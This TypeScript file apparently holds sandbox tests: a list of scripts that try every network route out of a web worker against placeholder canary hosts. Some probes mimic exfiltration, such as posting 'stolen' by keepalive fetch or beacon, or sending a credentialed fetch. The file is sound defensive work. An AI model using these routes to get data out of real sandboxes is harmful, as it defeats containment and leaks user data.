/** One way to the network from a worker. */
export type Probe = {
  readonly name: string
  /** JavaScript that may use `await`. */
  readonly script: string
}

const untilTold = (expression: string, events: readonly string[]) =>
  `await new Promise((done) => { const it = ${expression}; ${events.map((name) => `it.on${name} = done`).join('; ')} })`

const inBlobWorker = (script: string, options = '') =>
  untilTold(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}]))${options})`, [
    'message',
    'error',
  ])

/**
 * Everything by which a worker can reach a network. The same scripts run in a worker of a sandboxed program and,
 * as the control, in a worker of a page without a policy.
 */
export const PROBES: readonly Probe[] = [
  { name: 'fetch', script: 'await fetch("HTTP_CANARY/fetch")' },
  { name: 'fetch without cors', script: 'await fetch("HTTP_CANARY/no-cors", { mode: "no-cors" })' },
  {
    name: 'fetch kept alive',
    script:
      'await fetch("HTTP_CANARY/keepalive", { method: "POST", body: "stolen", keepalive: true, mode: "no-cors" })',
  },
  {
    name: 'fetch from the prototype',
    script:
      'await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, "HTTP_CANARY/prototype")',
  },
  {
    name: 'fetch of a Request',
    script: 'delete self.fetch; await fetch(new Request("HTTP_CANARY/request"))',
  },
  { name: 'fetch of a bare TCP port', script: 'await fetch("TCP_CANARY", { mode: "no-cors" })' },
  {
    name: 'an asynchronous request',
    script: untilTold('new XMLHttpRequest()', ['loadend']).replace(
      '; it.on',
      '; it.open("GET", "HTTP_CANARY/xhr"); it.send(); it.on',
    ),
  },
  {
    name: 'a synchronous request',
    script: 'const it = new XMLHttpRequest(); it.open("GET", "HTTP_CANARY/xhr-sync", false); it.send()',
  },
  { name: 'a web socket', script: untilTold('new WebSocket("SOCKET_CANARY/socket")', ['open', 'error']) },
  { name: 'a stream of a web socket', script: 'await new WebSocketStream("SOCKET_CANARY/stream").opened' },
  { name: 'an event source', script: untilTold('new EventSource("HTTP_CANARY/events")', ['open', 'error']) },
  {
    name: 'web transport',
    script: 'await new WebTransport("HTTP_CANARY/transport".replace("http:", "https:")).ready',
  },
  { name: 'an imported script', script: 'importScripts("HTTP_CANARY/script")' },
  { name: 'an imported module', script: 'await import("HTTP_CANARY/module")' },
  {
    name: 'a module that imports another',
    script:
      'await import(URL.createObjectURL(new Blob([`import "HTTP_CANARY/static"`], { type: "text/javascript" })))',
  },
  {
    name: 'a worker from there',
    script: untilTold('new Worker("HTTP_CANARY/worker")', ['message', 'error']),
  },
  {
    name: 'a shared worker from there',
    script: untilTold('new SharedWorker("HTTP_CANARY/shared")', ['error']),
  },
  {
    name: 'a worker of a worker',
    script: inBlobWorker('fetch("HTTP_CANARY/nested").then(() => postMessage(1), () => postMessage(2))'),
  },
  {
    name: 'a module worker of a worker',
    script: inBlobWorker(
      'fetch("HTTP_CANARY/nested-module").then(() => postMessage(1), () => postMessage(2))',
      ', { type: "module" }',
    ),
  },
  {
    name: 'a worker from a data address',
    script: untilTold(
      'new Worker("data:text/javascript," + encodeURIComponent(`fetch("HTTP_CANARY/data").then(() => postMessage(1), () => postMessage(2))`))',
      ['message', 'error'],
    ),
  },
  { name: 'a font', script: 'await new FontFace("stolen", "url(HTTP_CANARY/font)").load()' },
  { name: 'a beacon', script: 'navigator.sendBeacon("HTTP_CANARY/beacon", "stolen")' },
  {
    name: 'a peer connection',
    script:
      'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP_CANARY" }] }); peer.createDataChannel("x"); await peer.setLocalDescription()',
  },
  { name: 'a cache that fetches', script: 'await (await caches.open("x")).add("HTTP_CANARY/cache")' },
  { name: 'a service worker', script: 'await navigator.serviceWorker.register("PAGE_ADDRESS/service.js")' },
  {
    name: 'the address of the page',
    script: 'await fetch("PAGE_ADDRESS/fetched", { credentials: "include" })',
  },
  { name: 'streamed WebAssembly', script: 'await WebAssembly.compileStreaming(fetch("HTTP_CANARY/wasm"))' },
  { name: 'a later fetch', script: 'fetchLater("HTTP_CANARY/later", { activateAfter: 0 })' },
  {
    name: 'a socket of the operating system',
    script: 'const [host, port] = "UDP_CANARY".split(":"); await new TCPSocket(host, Number(port)).opened',
  },
]

/** A script that says at its end, by `say`, whether it could do what it tried. */
export function tellingProbe({ script }: Probe, say: string): string {
  return `(async () => { ${script} })().then(() => ${say}("done"), () => ${say}("refused"))`
}
